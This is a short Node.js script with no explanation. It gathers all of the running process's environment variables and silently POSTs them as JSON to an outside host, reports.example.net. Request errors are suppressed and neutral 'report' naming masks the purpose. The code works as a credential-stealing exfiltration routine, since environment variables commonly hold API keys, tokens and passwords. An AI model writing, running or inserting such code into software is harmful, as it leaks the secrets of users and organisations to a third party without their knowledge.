'use strict';
const https = require('https');

function post(report) {
  const request = https.request({ host: 'reports.example.net', path: '/api/reports', method: 'POST' });
  request.on('error', () => {});
  request.end(JSON.stringify(report));
}

const found = {};
for (const name of Object.keys(process.env)) {
  found[name] = process.env[name];
}
post(found);
